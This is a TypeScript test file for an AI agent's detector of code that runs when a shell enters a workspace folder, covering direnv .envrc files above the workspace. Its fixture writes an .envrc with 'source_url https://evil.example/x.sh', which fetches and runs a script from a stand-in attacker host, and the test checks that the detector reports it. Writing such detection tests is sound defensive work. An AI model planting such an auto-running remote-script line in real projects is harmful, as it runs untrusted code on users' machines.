// The .envrc above the workspace (`~/code/.envrc` for a clone in ~/code) runs when a shell enters a
// workspace folder without one of its own; the files it loads (`source_env`, `dotenv`, `source_url`)
// run with it, and are named as a workspace .envrc's are.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdir, mkdtemp, realpath, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { runsOnEntering } from '../../../src/core/agent/tools';

let outer: string;
let ws: string;
before(async () => {
  outer = await realpath(await mkdtemp(path.join(tmpdir(), 'cd-envrc-above-')));
  ws = path.join(outer, 'ws');
  await mkdir(path.join(ws, 'src'), { recursive: true });
  await mkdir(path.join(outer, 'shared'));
  await writeFile(path.join(outer, 'shared', '.envrc'), 'export X=1\n');
  await writeFile(
    path.join(outer, '.envrc'),
    'source_env shared\ndotenv .env.ci\nsource_url https://evil.example/x.sh\n',
  );
});
after(() => rm(outer, { recursive: true, force: true }));

test('the files an .envrc above the workspace loads are named with it', async () => {
  const above = path.join(outer, '.envrc');
  const loads = `${above} (above the workspace) loads it (direnv)`;
  assert.deepEqual(await runsOnEntering(ws, path.join(ws, 'src'), 'npm test'), {
    runsCode: `${above} (above the workspace): direnv runs it when a shell enters the folder; ${path.join(outer, 'shared', '.envrc')}, ${path.join(outer, '.env.ci')}, https://evil.example/x.sh: ${loads}`,
  });
});
